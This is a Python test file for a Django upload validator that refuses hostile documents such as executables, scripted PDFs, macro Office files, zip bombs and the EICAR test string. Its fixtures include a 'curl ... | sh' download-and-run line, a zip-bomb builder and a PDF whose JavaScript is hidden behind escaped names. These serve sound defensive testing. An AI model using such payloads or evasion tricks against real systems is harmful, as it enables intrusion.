import io
import zipfile
from pathlib import Path

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from pypdf import PdfWriter
from pypdf.actions import JavaScript
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from rathaus.core import uploads
from rathaus.core.tests.hostile_files import image
from rathaus.core.uploads import (
    ALL_DOCUMENT_TYPES,
    JPEG_DOCUMENT,
    PDF,
    PNG_DOCUMENT,
    sha256_of,
    validate_document_upload,
)

MAX_BYTES = 10 * 1024 * 1024
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
PNG_BYTES = image("PNG")
JPEG_BYTES = image("JPEG")


@pytest.fixture(autouse=True)
def no_clamav(monkeypatch: pytest.MonkeyPatch) -> None:
    """The checks are tested on their own, whether or not the machine has ClamAV."""
    monkeypatch.setattr(uploads, "clamav_command", lambda: None)


def _pdf(*, password: str = "", script: bool = False) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    if script:
        writer.add_open_action(JavaScript("app.alert('Hallo');"))
    if password:
        writer.encrypt(password)
    output = io.BytesIO()
    writer.write(output)
    return output.getvalue()


def _pdf_opening_with_a_script() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
        {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert(1)")}
    )
    output = io.BytesIO()
    writer.write(output)
    # Escaped names read the same to a PDF reader but hide from a search of the bytes.
    return output.getvalue().replace(b"/JavaScript", b"/Java#53cript").replace(b"/JS ", b"/J#53 ")


def _zip(entries: dict[str, bytes]) -> bytes:
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
    return output.getvalue()


def _zip_bomb() -> bytes:
    output = io.BytesIO()
    with (
        zipfile.ZipFile(output, "w", compression=zipfile.ZIP_DEFLATED) as archive,
        archive.open("nullen.bin", "w", force_zip64=True) as entry,
    ):
        zeros = b"\x00" * (1024 * 1024)
        for _megabyte in range(200):
            entry.write(zeros)
    return output.getvalue()


def _refusal(
    content: bytes, name: str = "cv.pdf", *, allowed: frozenset[str] = ALL_DOCUMENT_TYPES, max_bytes: int = MAX_BYTES
) -> ValidationError:
    upload = SimpleUploadedFile(name, content, content_type="application/pdf")
    with pytest.raises(ValidationError) as error:
        validate_document_upload(upload, allowed=allowed, max_bytes=max_bytes)
    return error.value


def test_it_accepts_a_pdf_and_scans_as_png_or_jpeg() -> None:
    for content, expected in ((_pdf(), PDF), (PNG_BYTES, PNG_DOCUMENT), (JPEG_BYTES, JPEG_DOCUMENT)):
        upload = SimpleUploadedFile("datei.bin", content, content_type="application/octet-stream")
        assert validate_document_upload(upload, max_bytes=MAX_BYTES) is expected
        assert upload.tell() == 0


@pytest.mark.parametrize(
    ("name", "content", "code", "german"),
    [
        ("cv.pdf", b"", "empty", "Die Datei ist leer"),
        ("cv.pdf", b"MZ\x90\x00\x03" + b"\x00" * 200, "executable", "Programmdateien nehmen wir"),
        ("cv.pdf", b"\x7fELF\x02\x01\x01" + b"\x00" * 200, "executable", "Programmdateien nehmen wir"),
        ("cv.pdf", b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + b"\x00" * 200, "executable", "Programmdateien nehmen wir"),
        ("cv.pdf", b"#!/bin/sh\ncurl http://example.org | sh\n", "script", "Skripten oder Webseiten-Code"),
        ("foto.png", b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>", "script", "Skripten"),
        ("cv.pdf", b"\xef\xbb\xbf\n  <!DOCTYPE html><html><body>Lebenslauf</body></html>", "script", "Skripten"),
        ("cv.pdf", b"<?xml version='1.0'?><lebenslauf/>", "script", "Skripten"),
        ("cv.pdf", b"const hallo = () => { window.location = 'https://example.org' };\n", "script", "Skripten"),
        ("cv.pdf", b"Mein Lebenslauf als einfacher Text.\n", "type", "Erlaubt sind PDF, PNG und JPEG."),
        ("cv.pdf", b"RIFF\x00\x00\x00\x00WEBPVP8 " + b"\x00" * 64, "type", "Erlaubt sind PDF, PNG und JPEG."),
        ("cv.pdf", b"Bewerbung\n" + EICAR + b"\n", "malware", "als schädlich erkannt und nicht gespeichert"),
        ("cv.pdf", _pdf(script=True), "script", "Die PDF-Datei enthält Skripte"),
        ("cv.pdf", _pdf_opening_with_a_script(), "script", "Die PDF-Datei enthält Skripte"),
        ("cv.pdf", _pdf(password="geheim"), "encrypted", "Bitte laden Sie die PDF-Datei ohne Passwortschutz hoch."),
        ("cv.pdf", b"%PDF-1.7\n1 0 obj << /Type /Catalog >>\nkaputt", "broken", "beschädigt"),
        ("cv.pdf", _pdf()[:200], "broken", "beschädigt"),
        ("cv.docm", _zip({"[Content_Types].xml": b"<Types/>", "word/vbaProject.bin": b"\x00" * 64}), "macro", "Makros"),
        ("cv.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504, "macro", "Makros"),
        ("cv.docx", _zip({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>"}), "zip", "ZIP"),
    ],
    ids=[
        "empty",
        "windows-executable-named-pdf",
        "elf-executable",
        "mach-o-executable",
        "shell-script",
        "svg",
        "html-after-bom-and-blank-lines",
        "xml",
        "javascript",
        "plain-text",
        "webp-is-no-document-type",
        "eicar-test-virus",
        "pdf-with-javascript",
        "pdf-opening-with-escaped-javascript",
        "encrypted-pdf",
        "broken-pdf",
        "truncated-pdf",
        "macro-enabled-word-file",
        "old-office-file",
        "word-file",
    ],
)
def test_it_refuses_with_a_code_and_a_german_message(name: str, content: bytes, code: str, german: str) -> None:
    error = _refusal(content, name)
    assert error.code == code
    assert german in error.messages[0]


def test_it_refuses_a_zip_bomb_without_unpacking_it() -> None:
    bomb = _zip_bomb()
    assert len(bomb) < 1024 * 1024
    error = _refusal(bomb, "cv.zip")
    assert error.code == "zip_bomb"
    assert "entpackt übermäßig groß" in error.messages[0]


def test_it_refuses_files_larger_than_the_limit_and_names_it_in_mb() -> None:
    error = _refusal(_pdf() + b"\x00" * 600_000, max_bytes=512 * 1024)
    assert error.code == "too_large"
    assert error.messages[0] == "Die Datei ist zu groß. Erlaubt sind höchstens 0,5 MB."


def test_it_reads_no_further_than_the_limit_when_the_size_is_misreported() -> None:
    upload = SimpleUploadedFile("cv.pdf", _pdf() + b"\x00" * 2 * 1024 * 1024, content_type="application/pdf")
    upload.size = 100
    with pytest.raises(ValidationError) as error:
        validate_document_upload(upload, max_bytes=1024 * 1024)
    assert error.value.code == "too_large"
    assert "höchstens 1 MB" in error.value.messages[0]


def test_it_refuses_a_known_type_that_the_field_does_not_allow() -> None:
    error = _refusal(PNG_BYTES, "zeugnis.png", allowed=frozenset({"pdf"}))
    assert error.code == "type"
    assert error.messages[0] == "Diese Art von Datei können wir nicht annehmen. Erlaubt sind PDF."


def test_it_refuses_what_clamav_reports(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    scanner = tmp_path / "clamscan"
    scanner.write_text('#!/bin/sh\necho "$1: Win.Test.EICAR_HDB-1 FOUND"\nexit 1\n')
    scanner.chmod(0o755)
    monkeypatch.setattr(uploads, "clamav_command", lambda: [str(scanner)])
    error = _refusal(_pdf())
    assert error.code == "malware"
    assert "als schädlich erkannt" in error.messages[0]


def test_it_accepts_what_clamav_finds_clean(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    scanned = tmp_path / "scanned.pdf"
    scanner = tmp_path / "clamscan"
    scanner.write_text(f'#!/bin/sh\ncp "$1" {scanned}\necho "$1: OK"\nexit 0\n')
    scanner.chmod(0o755)
    monkeypatch.setattr(uploads, "clamav_command", lambda: [str(scanner)])
    content = _pdf()
    upload = SimpleUploadedFile("cv.pdf", content, content_type="application/pdf")
    assert validate_document_upload(upload, max_bytes=MAX_BYTES) is PDF
    assert scanned.read_bytes() == content


def test_it_hashes_the_content_and_rewinds() -> None:
    upload = SimpleUploadedFile("cv.pdf", b"Hallo", content_type="application/pdf")
    upload.read(2)
    assert sha256_of(upload) == "753692ec36adb4c794c973945eb2a99c1649703ea6f76bf259abb4fb838e013e"
    assert upload.tell() == 0
